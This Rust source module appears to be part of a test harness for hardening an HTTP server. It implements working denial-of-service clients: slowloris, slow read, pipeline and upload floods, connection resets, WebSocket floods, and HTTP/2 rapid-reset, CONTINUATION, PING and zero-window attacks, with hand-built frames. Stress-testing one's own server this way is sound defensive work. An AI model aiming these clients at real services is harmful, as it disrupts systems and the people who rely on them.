//! The hostile clients.
//!
//! Sources: slowhttptest, and the advisories for HTTP/2 (CVE-2023-44487 rapid reset, CVE-2024-27316
//! CONTINUATION, CVE-2019-9512 PING, CVE-2019-9515 SETTINGS). The number of open connections is
//! bounded.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsFd;
use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
use std::time::Duration;

use nix::poll::{PollFd, PollFlags, poll};
use socket2::SockRef;

/// Connections of a slow client: enough to occupy a small pool of threads, few enough for every
/// machine.
const SLOW_CONNECTIONS: usize = 100;

/// Connections of a flood: two, so that one has input ready while the server handles the other.
const FLOOD_CONNECTIONS: usize = 2;

/// Time between two bytes of [`Way::Trickle`], in milliseconds: far below every timeout.
const TRICKLE_MS: u16 = 20;

/// Timeout of poll(2) in a flood, in milliseconds, after which `over` is checked.
const FLOOD_WAIT_MS: u16 = 20;

/// Timeout of connect(2), and the pause after a failed one.
const CONNECT_TIMEOUT: Duration = Duration::from_millis(200);

pub struct Kind {
    pub name: &'static str,
    pub what: &'static str,
    pub(super) way: Way,
}

pub(super) enum Way {
    /// Sends `first`, then a byte of `then` every [`TRICKLE_MS`], on many connections.
    Trickle { first: fn() -> Vec<u8>, then: &'static [u8] },
    /// Sends `first` on many connections, and does not read.
    Unread { first: fn() -> Vec<u8> },
    /// Sends `first`, then `piece(0)`, `piece(1)` ... without pause, and discards the replies.
    Flood { first: fn() -> Vec<u8>, piece: fn(u32) -> Vec<u8> },
    /// Connects, sends `first` and resets the connection, without pause.
    Reset { first: fn() -> Vec<u8> },
}

impl Way {
    /// Most connections that the client has open at once.
    pub(super) fn connections(&self) -> u64 {
        match self {
            Way::Trickle { .. } | Way::Unread { .. } => SLOW_CONNECTIONS as u64,
            Way::Flood { .. } => FLOOD_CONNECTIONS as u64,
            Way::Reset { .. } => 1,
        }
    }
}

pub const KINDS: [Kind; 14] = [
    Kind {
        name: "slow-head",
        what: "100 connections that send a request head byte by byte (slowloris)",
        way: Way::Trickle {
            first: || b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ".into(),
            then: b"x",
        },
    },
    Kind {
        name: "slow-body",
        what: "100 connections that send a request body byte by byte",
        way: Way::Trickle {
            first: || {
                b"POST /echo HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999\r\n\r\n".into()
            },
            then: b"x",
        },
    },
    Kind {
        name: "slow-read",
        what: "100 connections that request a large reply and do not read it",
        way: Way::Unread {
            first: || b"GET /bytes/1000000000 HTTP/1.1\r\nHost: localhost\r\n\r\n".into(),
        },
    },
    Kind {
        name: "pipeline-flood",
        what: "2 connections that pipeline requests without pause",
        way: Way::Flood {
            first: Vec::new,
            piece: |_| b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(1_024),
        },
    },
    Kind {
        name: "upload-flood",
        what: "2 connections that send large request bodies without pause",
        way: Way::Flood {
            first: Vec::new,
            piece: |_| {
                let head =
                    b"POST /echo HTTP/1.1\r\nHost: localhost\r\nContent-Length: 65536\r\n\r\n";
                [&head[..], &[b'x'; 65_536]].concat()
            },
        },
    },
    Kind {
        name: "connect-reset",
        what: "opens and resets connections without pause",
        way: Way::Reset { first: Vec::new },
    },
    Kind {
        name: "request-reset",
        what: "opens a connection, sends a request and resets it, without pause",
        way: Way::Reset {
            first: || b"GET /bytes/100000 HTTP/1.1\r\nHost: localhost\r\n\r\n".into(),
        },
    },
    Kind {
        name: "ws-flood",
        what: "2 WebSockets that send small messages without pause",
        way: Way::Flood { first: upgrade, piece: |_| b"\x81\x84\0\0\0\0ping".repeat(4_096) },
    },
    Kind {
        name: "ws-fragments",
        what: "100 WebSockets that send a message byte by byte without end",
        way: Way::Trickle {
            first: || [upgrade(), b"\x01\xff\0\0\0\0\0\x0f\xff\xff\0\0\0\0".into()].concat(),
            then: b"x",
        },
    },
    Kind {
        name: "h2-unread",
        what: "100 HTTP/2 connections with the largest windows that do not read",
        way: Way::Unread {
            first: || [preface(i32::MAX as u32), request(1, b"/bytes/1000000000")].concat(),
        },
    },
    Kind {
        name: "h2-windows",
        what: "100 HTTP/2 connections with windows of 0 bytes",
        way: Way::Unread { first: || [preface(0), request(1, b"/bytes/100000")].concat() },
    },
    Kind {
        name: "h2-ping",
        what: "2 HTTP/2 connections that send PING and SETTINGS without pause",
        way: Way::Flood {
            first: || preface(65_535),
            piece: |_| [frame(6, 0, 0, b"12345678"), frame(4, 0, 0, b"")].concat().repeat(1_024),
        },
    },
    Kind {
        name: "h2-rapid-reset",
        what: "2 HTTP/2 connections that open and reset streams without pause",
        way: Way::Flood {
            first: || preface(65_535),
            piece: |n| {
                let ids = (n * 64..n * 64 + 64).map(|k| 2 * k + 1);
                ids.flat_map(|id| [request(id, b"/"), frame(3, 0, id, b"\0\0\0\x08")].concat())
                    .collect()
            },
        },
    },
    Kind {
        name: "h2-continuation",
        what: "2 HTTP/2 connections that send CONTINUATION frames without end",
        way: Way::Flood {
            first: || [preface(65_535), frame(1, 1, 1, &fields(b"/"))].concat(),
            piece: |_| frame(9, 0, 1, b"").repeat(4_096),
        },
    },
];

/// The opening handshake of a WebSocket (RFC 6455 section 4.1).
fn upgrade() -> Vec<u8> {
    b"GET /ws/echo HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
      Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        .into()
}

/// An HTTP/2 frame (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream_id.to_be_bytes(), payload].concat()
}

/// The preface, SETTINGS with the initial window of streams, and the largest window for the
/// connection.
fn preface(window_bytes: u32) -> Vec<u8> {
    let settings = [&[0, 4][..], &window_bytes.to_be_bytes()].concat();
    let most = (i32::MAX as u32 - 65_535).to_be_bytes();
    let magic = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    [magic, frame(4, 0, 0, &settings), frame(8, 0, 0, &most)].concat()
}

/// A request: GET, http, `path`, authority x (RFC 7541 appendix A, without new table entries).
fn request(stream_id: u32, path: &[u8]) -> Vec<u8> {
    frame(1, 5, stream_id, &fields(path))
}

fn fields(path: &[u8]) -> Vec<u8> {
    [&[0x82, 0x86, 0x04, path.len() as u8], path, &[0x01, 1, b'x']].concat()
}

/// Runs a hostile client against `address` until `over`.
pub(super) fn run(way: &Way, address: SocketAddr, over: &AtomicBool) {
    match way {
        Way::Trickle { first, then } => slow(address, over, first, then),
        Way::Unread { first } => slow(address, over, first, b""),
        Way::Flood { first, piece } => flood(address, over, *first, *piece),
        Way::Reset { first } => reset(address, over, &first()),
    }
}

/// A connection on which `first` was sent; `None` if the server accepts none now.
fn open(address: SocketAddr, first: &[u8]) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&address, CONNECT_TIMEOUT).ok()?;
    stream.set_write_timeout(Some(CONNECT_TIMEOUT)).ok()?;
    stream.write_all(first).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}

fn slow(address: SocketAddr, over: &AtomicBool, first: &fn() -> Vec<u8>, then: &[u8]) {
    let mut connections: Vec<Option<TcpStream>> = Vec::new();
    connections.resize_with(SLOW_CONNECTIONS, || None);
    while !over.load(SeqCst) {
        for connection in &mut connections {
            if over.load(SeqCst) {
                return;
            }
            let Some(stream) = connection else {
                *connection = open(address, &first());
                continue;
            };
            // If the server has closed it the next iteration opens another.
            if stream.write(then).is_err_and(|error| is_end(&error)) {
                *connection = None;
            }
        }
        std::thread::sleep(Duration::from_millis(TRICKLE_MS.into()));
    }
}

struct Flooding {
    stream: TcpStream,
    piece: Vec<u8>,
    sent: usize,
    pieces: u32,
}

impl Flooding {
    /// Writes and reads without blocking; false at the connection's end.
    fn step(&mut self, piece: fn(u32) -> Vec<u8>, scratch: &mut [u8]) -> bool {
        match self.stream.write(&self.piece[self.sent..]) {
            Ok(n) => self.sent += n,
            Err(error) if is_end(&error) => return false,
            Err(_) => {}
        }
        if self.sent == self.piece.len() {
            self.pieces += 1;
            (self.piece, self.sent) = (piece(self.pieces), 0);
        }
        match self.stream.read(scratch) {
            Ok(n) => n > 0,
            Err(error) => !is_end(&error),
        }
    }
}

fn flood(
    address: SocketAddr,
    over: &AtomicBool,
    first: fn() -> Vec<u8>,
    piece: fn(u32) -> Vec<u8>,
) {
    let mut scratch = vec![0; 64 << 10];
    let mut connections: Vec<Flooding> = Vec::new();
    while !over.load(SeqCst) {
        while connections.len() < FLOOD_CONNECTIONS {
            let Some(stream) = open(address, &first()) else { break };
            connections.push(Flooding { stream, piece: piece(0), sent: 0, pieces: 0 });
        }
        if connections.is_empty() {
            std::thread::sleep(CONNECT_TIMEOUT);
            continue;
        }
        let both = PollFlags::POLLIN | PollFlags::POLLOUT;
        let mut waited: Vec<_> =
            connections.iter().map(|c| PollFd::new(c.stream.as_fd(), both)).collect();
        // After a signal or a timeout every socket is tried too, which does no harm: none blocks.
        let _ = poll(&mut waited, FLOOD_WAIT_MS);
        connections.retain_mut(|connection| connection.step(piece, &mut scratch));
    }
}

fn reset(address: SocketAddr, over: &AtomicBool, first: &[u8]) {
    while !over.load(SeqCst) {
        match open(address, first) {
            // With a linger time of 0 close(2) sends RST (socket(7)).
            Some(stream) => drop(SockRef::from(&stream).set_linger(Some(Duration::ZERO))),
            None => std::thread::sleep(CONNECT_TIMEOUT),
        }
    }
}

/// Whether the error ends the connection.
fn is_end(error: &std::io::Error) -> bool {
    !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_differ_and_each_kind_sends_something() {
        let mut names: Vec<_> = KINDS.iter().map(|kind| kind.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), KINDS.len());
        for kind in &KINDS {
            if let Way::Flood { piece, .. } = kind.way {
                assert!(!piece(0).is_empty(), "{}", kind.name);
            }
        }
    }

    #[test]
    fn a_frame_is_laid_out_as_section_4_1_says() {
        assert_eq!(frame(6, 1, 3, b"ab"), b"\0\0\x02\x06\x01\0\0\0\x03ab");
    }
}
